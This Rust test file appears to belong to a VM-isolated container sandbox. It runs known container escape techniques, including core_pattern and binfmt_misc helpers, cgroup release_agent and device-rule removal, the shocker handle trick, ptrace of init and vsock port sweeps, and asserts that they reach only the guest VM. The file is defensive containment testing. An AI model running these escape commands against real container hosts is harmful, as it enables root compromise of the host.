//! The ways out of a container that CDK, deepce and Metarget list, each with the misconfiguration that it needs,
//! run for real: first they reach the guest, where they can, then nothing beyond it.
//!
//! `SECURITY.md` has them as a table. What runs as the guest's own root is `guest-tool/kernel_helper.rs`.

use crate::cases;
use crate::harness::watch::{Outside, small};
use crate::harness::{Output, World};
use protocol::port::CONTROL_PORT;

cases! {
    Both: privileged, sys_admin_with_release_agent, sys_admin_with_cgroup_devices, sys_ptrace, sys_module,
        dac_read_search, the_agents_socket, every_port_of_the_host, the_guests_procfs, core_pattern, uevent_helper, binfmt_misc;
}

const PRIVILEGED: &[&str] = &["--privileged"];
const SYS_ADMIN: &[&str] = &["--cap-add", "SYS_ADMIN", "--security-opt", "apparmor=unconfined"];
/// A word that stands in the container's own environment: whoever reaches the guest finds it.
const KNOWN: &str = "a-word-that-is-there-to-be-found";

/// Every program that the agent, the container's script and the kernel have started by then. busybox becomes another of its
/// programs by way of /proc/self/exe, and is called so for a moment.
const OF_THE_GUEST: [&str; 10] =
    ["init", "sh", "exe", "sleep", "seq", "grep", "cat", "helper", "helper2", "trap.bait"];

/// Where the kernel finds a container's file when it looks from the initramfs, whose root the agent's covers.
const PRELUDE: &str = r#"
    upper=$(sed -n 's/.* - overlay .*upperdir=\([^,]*\).*/\1/p' /proc/self/mountinfo | head -n 1)
    helper=/..$upper/helper
    cp /bin/guest-tool /helper; : > /helper.report
    crash() { sh -c 'kill -SEGV $$' 2> /dev/null; }
    heard() { for n in $(seq 100); do grep -q ^done $1 && break; sleep 0.1; done; cat $1; }
"#;

/// What is done with this misconfiguration while everything outside is watched.
fn tried(outside: &Outside<'_>, flags: &[&str], deed: &str) -> Output {
    let known = format!("KNOWN={KNOWN}");
    let sandbox = small(outside.world).flags(flags).flags(&["-e", &known]);
    outside.sees(sandbox, &["sh", "-c", deed])
}

/// The same, by making the guest's kernel start a helper that looks around: it sees the guest.
#[track_caller]
fn witnessed(outside: &Outside<'_>, flags: &[&str], trigger: &str) {
    let job = witness(&outside.secret);
    let deed = format!("{PRELUDE} echo '{job}' > /helper.job\n {trigger}\n heard /helper.report");
    let output = tried(outside, flags, &deed);
    assert!(!output.text().contains(&outside.secret), "{}", output.text());
    is_of_the_guest(&output);
}

/// The order to look around: its words stand backwards, so that they do not find themselves.
fn witness(secret: &str) -> String {
    let backwards = |word: &str| word.chars().rev().collect::<String>();
    format!("witness {} {}", backwards(KNOWN), backwards(secret))
}

/// It ran with all capabilities in the guest's first namespaces, whose numbers are the kernel's constants, and
/// saw the agent; of outside it saw nothing.
#[track_caller]
fn is_of_the_guest(output: &Output) {
    output.exits(0);
    let text = output.text();
    let line = |name: &str| {
        let found = text.lines().find_map(|line| line.strip_prefix(name)?.strip_prefix(' '));
        found.unwrap_or_else(|| panic!("no {name} in {text}\nstderr: {}", output.stderr)).to_owned()
    };
    for seen in [
        "uid 0",
        "capabilities 000001ffffffffff",
        "first init",
        "root dev,proc,run,sys",
        "namespace pid:[4026531836]",
        "namespace user:[4026531837]",
        "namespace uts:[4026531838]",
        "namespace cgroup:[4026531835]",
    ] {
        assert!(text.lines().any(|line| line == seen), "{seen:?} is not in {text}");
    }
    assert!(line("known").contains("environ"), "{text}");
    // All there is: two disks of the sandbox's own, no network, no process but the agent's and the container's.
    assert_eq!((line("disks").as_str(), line("secret").as_str()), ("vda,vdb", "nowhere"), "{text}");
    assert_eq!(line("network"), "dummy0,lo", "{text}");
    let processes = line("processes");
    let strange: Vec<&str> =
        processes.split(',').filter(|name| !OF_THE_GUEST.contains(name)).collect();
    assert!(strange.is_empty(), "{strange:?} in {text}");
    let outside = std::fs::read_to_string("/proc/sys/kernel/random/boot_id").unwrap();
    assert!(line("boot").len() == 36 && line("boot") != outside.trim(), "{text}");
}

/// The guest's writable disk, mounted once more: what the container wrote is there, and what is written there
/// the container sees.
fn privileged(world: &World) {
    let outside = Outside::of(world);
    let deed = "echo of the container > /mine; sync; mount -t ext4 /dev/vdb1 /mnt; ls /mnt; \
        own=/mnt/*/upper; cat $own/mine; ls /sys/block | grep -c ^vd";
    let deed = deed.replace("/mnt", "/srv");
    let output = tried(&outside, PRIVILEGED, &deed);
    output.exits(0).shows("lost+found").shows("of the container\n2");
    outside.finds_no_harm();
}

/// Where no hierarchy of cgroup v1 is mounted, a container can make none: that is for the first cgroup
/// namespace. Who has reached that one has the agent of a hierarchy run, too.
fn sys_admin_with_release_agent(world: &World) {
    let outside = Outside::of(world);
    let deed = "mkdir /v1; mount -t cgroup -o none,name=escape none /v1 2>&1 || echo refused; \
        mount -t cgroup -o net_cls none /v1 2>&1 || echo refused";
    let output = tried(&outside, SYS_ADMIN, deed);
    assert_eq!(output.exits(0).text().matches("refused").count(), 2, "{}", output.text());
    let trigger = "
        mv /helper.job /helper2.job; cp /helper /helper2; : > /helper2.report
        echo hierarchy ${helper}2 > /helper.job; echo \"|$helper\" > /proc/sys/kernel/core_pattern
        crash; heard /helper.report >&2; heard /helper2.report";
    witnessed(&outside, PRIVILEGED, trigger);
    outside.finds_no_harm();
}

/// The rule about devices is a program on the container's cgroup, which this capability may take off.
fn sys_admin_with_cgroup_devices(world: &World) {
    let outside = Outside::of(world);
    let deed = r#"
        mknod /disk b $(tr ':' ' ' < /sys/block/vdb/vdb1/dev)
        head -c 1 /disk > /dev/null 2>&1 || echo refused
        guest-tool unguard
        dd if=/disk bs=2 skip=540 count=1 2> /dev/null | od -An -tx1 | tr -d ' '
        mount -t ext4 /disk /srv && ls /srv"#;
    tried(&outside, SYS_ADMIN, deed)
        .exits(0)
        .shows("refused\ndetached 1\n53ef\n")
        .shows("lost+found");
    outside.finds_no_harm();
}

/// A debugger holds what it sees: the container's own processes. Where it sees the agent, it holds the agent.
fn sys_ptrace(world: &World) {
    let outside = Outside::of(world);
    let deed = "sleep 60 & guest-tool puppet $!; ls /proc | grep -c '^[0-9]'; read name < /proc/1/comm; echo $name";
    let output = tried(&outside, &["--cap-add", "SYS_PTRACE"], deed);
    output.exits(0);
    let text = output.text();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!((lines[0], lines[2]), ("held sleep", "sh"), "{lines:?}");
    assert!(lines[1].parse::<u32>().unwrap() <= 5, "{lines:?}");
    let trigger = r#"echo "|$helper" > /proc/sys/kernel/core_pattern; crash; heard /helper.report"#;
    let deed = format!("{PRELUDE} echo puppet > /helper.job\n {trigger}; exit 7");
    tried(&outside, PRIVILEGED, &deed).exits(7).shows("held init\ndone");
    outside.finds_no_harm();
}

fn sys_module(world: &World) {
    let outside = Outside::of(world);
    let deed = "guest-tool module; ls /proc/modules /proc/sys/kernel/modprobe; exit 0";
    for flags in [&["--cap-add", "SYS_MODULE"], PRIVILEGED] {
        let output = tried(&outside, flags, deed);
        output.exits(0);
        assert!(output.stderr.contains("os error 38"), "{}", output.stderr);
        assert_eq!(
            (output.text().as_str(), output.stderr.matches("No such file").count()),
            ("", 2)
        );
    }
    outside.finds_no_harm();
}

/// By a handle instead of a path: nothing that a container has mounted takes that of an inode which it was not
/// shown. What it mounts itself does.
fn dac_read_search(world: &World) {
    let outside = Outside::of(world);
    let deed = "for path in / /etc/hosts /dev/shm /proc /sys; do \
        guest-tool shocker $path 2> /dev/null || echo refused; done";
    let output = tried(&outside, &["--cap-add", "DAC_READ_SEARCH"], deed);
    output.prints("refused\nrefused\nrefused\nrefused\nrefused");
    let deed = "mount -t ext4 /dev/vdb1 /srv; mkdir /below; mount --bind /srv/*/upper/etc /below; \
        umount /srv; guest-tool shocker /below";
    tried(&outside, PRIVILEGED, &format!("touch /etc/mine; {deed}"))
        .exits(0)
        .shows("opened ")
        .shows("lost+found");
    outside.finds_no_harm();
}

/// There is no daemon's socket inside; the nearest to one is the agent's connection to the launcher. Nobody
/// listens where it went, and who takes it out of the agent itself ends the sandbox by what he says on it.
fn the_agents_socket(world: &World) {
    let outside = Outside::of(world);
    let ports = format!("{CONTROL_PORT} $(seq 1024 1028)");
    let deed = format!(
        "for cid in 1 2 3; do for port in {ports}; do guest-tool vsock $cid $port; done; done 2>&1 | \
         sed 's/.*os error/os error/' | sort | uniq -c"
    );
    // The filter's own answer.
    let output = tried(&outside, &[], &deed);
    assert!(
        output.exits(0).text().lines().all(|line| line.contains("os error 1)")),
        "{}",
        output.text()
    );
    let output = tried(&outside, PRIVILEGED, &deed);
    assert!(!output.exits(0).text().contains("connected"), "{}", output.text());
    let trigger = r#"echo "|$helper" > /proc/sys/kernel/core_pattern; crash; sleep 30"#;
    let deed = format!("{PRELUDE} echo usurp {CONTROL_PORT} > /helper.job\n {trigger}; exit 0");
    tried(&outside, PRIVILEGED, &deed).exits(125).complains(&["the sandbox is lost"]);
    outside.finds_no_harm();
}

/// Whoever has a vsock may try every port, and many at a time: each is refused, and nothing outside grows.
fn every_port_of_the_host(world: &World) {
    let outside = Outside::of(world);
    let stretches =
        "0 40 1; 1000 1060 1; 1061 65535 1009; 2147483000 2147484000 100; 4294967000 4294967295 25";
    let deed = format!(
        "echo '{stretches}' | tr ';' '\\n' | while read first last step; do \
             guest-tool knock 2 $first $last $step; done; \
         for n in $(seq 8); do guest-tool knock 2 1000 1040 1 & done; wait"
    );
    let output = tried(&outside, PRIVILEGED, &deed);
    let text = output.exits(0).text();
    let refused = text.lines().filter(|line| line.ends_with("(os error 104)"));
    assert_eq!((text.lines().count(), refused.count()), (13, 13), "{text}");
    outside.finds_no_harm();
}

/// Not read-only, as where the host's is mounted: it takes no capability beyond Docker's.
fn the_guests_procfs(world: &World) {
    let outside = Outside::of(world);
    let trigger = r#"echo "|$helper" > /proc/sys/kernel/core_pattern; crash"#;
    const OPEN_PATHS: [&str; 2] = ["--security-opt", "systempaths=unconfined"];
    // AppArmor's profile keeps it from there, as Docker's does.
    let attempt = "echo core > /proc/sys/kernel/core_pattern";
    let output = tried(&outside, &OPEN_PATHS, attempt);
    assert!(output.code != 0 && output.stderr.contains("Permission denied"), "{}", output.stderr);
    let flags = [&OPEN_PATHS[..], &["--security-opt", "apparmor=unconfined"]].concat();
    witnessed(&outside, &flags, trigger);
    outside.finds_no_harm();
}

/// Read-only, and mounted anew by who may.
fn core_pattern(world: &World) {
    let outside = Outside::of(world);
    // AppArmor's profile lets nobody mount, whatever the capabilities.
    let remount = "mount -o remount,bind,rw /proc/sys";
    let output = tried(&outside, &["--cap-add", "SYS_ADMIN"], remount);
    assert!(output.code != 0 && output.stderr.contains("ermission denied"), "{}", output.stderr);
    let trigger = r#"
        echo "|$helper" 2> /dev/null > /proc/sys/kernel/core_pattern && echo not read-only
        mount -o remount,bind,rw /proc/sys; echo "|$helper" > /proc/sys/kernel/core_pattern; crash"#;
    witnessed(&outside, SYS_ADMIN, trigger);
    outside.finds_no_harm();
}

/// A kernel may start one for every device that comes or goes. The guest's has no such thing.
fn uevent_helper(world: &World) {
    let outside = Outside::of(world);
    let deed = "echo /helper 2> /dev/null > /sys/kernel/uevent_helper || echo there is none; \
        echo change > /sys/class/mem/null/uevent && echo an event";
    tried(&outside, PRIVILEGED, deed).prints("there is none\nan event");
    outside.finds_no_harm();
}

/// A container's interpreter for files of a kind, which the kernel starts for whoever runs such a file: nobody
/// in the guest but a helper of the kernel's does.
fn binfmt_misc(world: &World) {
    let outside = Outside::of(world);
    let trigger = r#"
        mount -t binfmt_misc none /proc/sys/fs/binfmt_misc
        echo ":escape:E::bait::$helper:" > /proc/sys/fs/binfmt_misc/register
        echo no program > /trap.bait; chmod 755 /trap.bait
        echo "|/..$upper/trap.bait" > /proc/sys/kernel/core_pattern; crash"#;
    witnessed(&outside, PRIVILEGED, trigger);
    outside.finds_no_harm();
}
